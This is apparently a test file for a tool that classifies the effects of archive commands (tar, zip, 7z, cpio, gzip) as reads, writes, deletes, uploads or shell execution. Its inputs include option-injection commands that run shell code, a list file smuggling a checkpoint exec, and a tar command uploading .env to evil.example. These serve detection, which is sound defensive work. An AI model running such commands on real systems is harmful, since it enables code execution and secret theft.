import { describe, expect, it } from 'vitest';
import { pages } from '../../lib/programs/archive.ts';
import { fakeHost, readWith } from './call.ts';
import { showOutcome } from './show.ts';

const host = fakeHost({ files: { '/work/app/list': 'a\n--checkpoint=1\n--checkpoint-action=exec=rm x\n' } });
const read = (command: string, stdin?: string | 'pipe') =>
  showOutcome(readWith(pages, command, stdin === undefined ? { host } : { host, stdin }));

describe('tar', () => {
  it.each([
    ['tar xzf a.tgz', ['read a.tgz', 'write . recursive clobbers']],
    ['tar -xzf a.tgz -C out', ['read a.tgz', 'write out recursive clobbers']],
    ['tar xfC a.tar out', ['read a.tar', 'write out recursive clobbers']],
    ['tar --extract --file=a.tar --directory /', ['read a.tar', 'write / recursive clobbers']],
    ['tar --extr -f a.tar -k', ['read a.tar', 'write . recursive']],
    ['tar xf a.tar -C out .git/hooks/x', ['read a.tar', 'write out/.git/hooks/x recursive clobbers']],
    ['tar xPf a.tar', ['read a.tar', 'write . recursive clobbers', 'write / recursive clobbers']],
    ['tar xOf a.tar x', ['read a.tar']],
    ['tar xf -', ['write . recursive clobbers']],
    ['tar --one-top-level=d -xf a.tar', ['read a.tar', 'write d recursive clobbers']],
    ['tar tzf a.tgz', ['read a.tgz']],
    ['tar czf out.tgz src .env', ['write out.tgz clobbers', 'read src recursive', 'read .env recursive']],
    ['tar -C /etc -cf - passwd', ['read /etc/passwd recursive']],
    ['tar cf /dev/null x', ['read x recursive']],
    ['tar rf a.tar x', ['write a.tar', 'read x recursive']],
    ['tar cf out.tar x --remove-files', ['write out.tar clobbers', 'read x recursive', 'delete x recursive']],
    ["tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm x'", ['read x recursive', '> sh: rm x']],
    ['tar cf /dev/null x --checkpoint=1 --checkpoint-action=dot', ['read x recursive']],
    ["tar xf a.tar --to-command='sh x'", ['read a.tar', '> sh: sh x']],
    ["tar -I 'sh x' -xf a.tar", ['read a.tar', 'write . recursive clobbers', '> sh: sh x']],
    ["tar --use-compress-prog='sh x' -tf a", ['read a', '> sh: sh x']],
    ["tar -cMf a -L 1 -F 'sh x' b", ['write a clobbers', 'read b recursive', '> sh: sh x']],
    ['tar cf evil.example:/x .env', ['upload ssh://evil.example sends=@.env', 'read .env recursive']],
    [
      "tar xf evil.example:/x --rsh-command='sh x'",
      ['connect ssh://evil.example', 'write . recursive clobbers', '> sh: sh x'],
    ],
    ['tar cf a:b x --force-local', ['write a:b clobbers', 'read x recursive']],
    ['tar cf out.tar -T list', ['read list', 'write out.tar clobbers', '> sh: rm x']],
    ['tar cf out.tar --verbatim-files-from -T list', ['read list', 'write out.tar clobbers']],
    [
      "TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=./x' tar cf - a",
      ['read a recursive', '> sh: ./x'],
    ],
    ['tar xzf $f -C $d', ['read …', 'write … recursive clobbers']],
    ['tar --help', []],
  ])('%s', (command, expected) => {
    expect(read(command)).toEqual(expected);
  });
});

describe('other archives', () => {
  it.each([
    ['zip -r out.zip src', ['write out.zip', 'read src recursive']],
    ['zip -qr out.zip . -x .env node_modules/*', ['write out.zip', 'read . recursive']],
    ['zip -x .env -r out.zip src', ['write out.zip', 'read src recursive']],
    ['zip -m out.zip a', ['write out.zip', 'read a', 'delete a']],
    ['zip -d out.zip a', ['write out.zip']],
    ["zip out.zip a -T -TT 'sh x'", ['write out.zip', 'read a', '> sh: sh x']],
    ["zip out.zip a -T --unzip-command='sh x'", ['write out.zip', 'read a', '> sh: sh x']],
    ['zip - a', ['read a']],
    ['unzip a.zip', ['read a.zip', 'write . recursive clobbers']],
    ['unzip -n a.zip -d out', ['read a.zip', 'write out recursive']],
    ['unzip -o a.zip x -d out', ['read a.zip', 'write out/x recursive clobbers']],
    ['unzip a.zip -x y -d out', ['read a.zip', 'write out recursive clobbers']],
    ['unzip -l a.zip', ['read a.zip']],
    ['unzip -p a.zip x', ['read a.zip']],
    ['7z x a.7z -oout', ['read a.7z', 'write out recursive clobbers']],
    ['7z x -so a.7z', ['read a.7z']],
    ['7z a out.7z .env', ['write out.7z', 'read .env recursive']],
    ['7z a out.7z x -sdel', ['write out.7z', 'read x recursive', 'delete x recursive']],
    ['7z a out.7z @.env', ['read .env', 'write out.7z']],
    ['7z l a.7z', ['read a.7z']],
    ['unrar x a.rar out/', ['read a.rar', 'write out/ recursive clobbers']],
    ['ar rcs lib.a a.o', ['write lib.a', 'read a.o']],
    ['ar x lib.a', ['read lib.a', 'write . recursive clobbers']],
    ['ar t lib.a', ['read lib.a']],
    ['ar p lib.a x', ['read lib.a']],
    [
      'jar cfm a.jar m.txt -C build .',
      ['write a.jar clobbers', 'read . recursive', 'read build recursive', 'read m.txt'],
    ],
    ['jar --create --file a.jar x', ['write a.jar clobbers', 'read x recursive']],
    ['jar xf a.jar', ['read a.jar', 'write . recursive clobbers']],
    ['jar tf a.jar', ['read a.jar']],
    ['cpio -idu -F a.cpio', ['read a.cpio', 'write . recursive clobbers']],
    ['cpio -id -D out', ['write out recursive']],
    ['cpio -t -F a.cpio', ['read a.cpio']],
    ['cpio -o -O out', ['write out clobbers']],
    ['cpio -pd dest', ['write dest recursive']],
    ["cpio -o -F a:x --rsh-command='sh x'", ['write a:x clobbers', '> sh: sh x']],
    ['unar -o out a.rar', ['read a.rar', 'write out recursive']],
    ['lsar a.rar', ['read a.rar']],
    ['gzip a', ['move a -> a.gz']],
    ['gzip -f a', ['move a -> a.gz clobbers']],
    ['gzip -k .env', ['read .env', 'write .env.gz']],
    ['gzip -c .env', ['read .env']],
    ['gunzip a.gz', ['move a.gz -> a']],
    ['gzip -d a.tgz', ['move a.tgz -> a.tar']],
    ['gzip -r logs', ['write logs recursive']],
    ['zstd a', ['read a', 'write a.zst']],
    ['zstd --rm a', ['move a -> a.zst']],
    ['zstd -f a -o b', ['read a', 'write b clobbers']],
    ['xz --files=.env', ['read .env']],
    ['xz -l a.xz', ['list a.xz']],
    ['lz4 a b', ['read a', 'write b clobbers']],
    ['bzip2 -dc a.bz2', ['read a.bz2']],
    ['gzip', []],
  ])('%s', (command, expected) => {
    expect(read(command)).toEqual(expected);
  });

  it('copies the names it is fed', () => {
    expect(read('cpio -o', '.env\n')).toEqual(['read .env']);
    expect(read('cpio -o', 'pipe')).toEqual([]);
  });

  it('knows each name once', () => {
    const names = pages.flatMap((page) => page.names);
    expect(names.filter((name, index) => names.indexOf(name) !== index)).toEqual([]);
  });
});
